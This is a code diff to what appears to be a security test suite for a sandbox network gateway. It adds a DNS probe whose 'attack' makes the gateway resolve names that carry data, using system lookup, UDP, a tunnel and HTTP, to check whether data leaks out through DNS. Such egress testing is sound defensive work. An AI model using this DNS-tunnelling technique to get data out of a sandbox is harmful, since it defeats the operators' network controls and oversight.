@@ -1,4 +1,4 @@
-import { Resolver } from 'node:dns/promises';
+import { lookup, Resolver } from 'node:dns/promises';
 import { once } from 'node:events';
 import type { NetConnectOpts } from 'node:net';
 import type { Targets } from '../arena/targets.ts';
@@ -97,6 +97,15 @@ function posted(t: Targets, host: string, name: string): Promise<void> {
   const lines = ['Content-Type: application/dns-message', `Content-Length: ${Buffer.byteLength(body)}`];
   return ask(t, { host, path: '/dns-query', method: 'POST', lines, body });
 }
+
+/** Every way to have the gateway think of a name. */
+const naming = (t: Targets, name: string): Promise<void> =>
+  all([
+    lookup(name),
+    datagram('udp4', { port: DNS_PORT, address: proxy().host }, question(name)),
+    tunnel(`${name}:443`),
+    ask(t, { host: name, path: '/' }),
+  ]);
 
 const leak = {
   family: 'dns',
@@ -255,6 +264,19 @@ export const DNS: readonly Probe[] = [
             .map((way) => datagram('udp4', { port, ...way }, netbios(nonce))),
         ),
       control: askedByDatagram,
+    },
+  },
+  {
+    ...elsewhere,
+    id: 'dns-upstream',
+    claim: 'The gateway asks nobody for a name that no rule allows.',
+    attack: 'have the gateway look up a name that carries data',
+    needs: 'capture',
+    breach: 'carries data out in names, through the very gateway that refuses them',
+    source: 'NVIDIA/OpenShell #1169; coder/httpjail #53: names are looked up before they are judged',
+    run: {
+      attack: (t, nonce) => naming(t, leakedBy(nonce)),
+      control: (t, nonce) => naming(t, askedBy(t, nonce)),
     },
   },
 ];
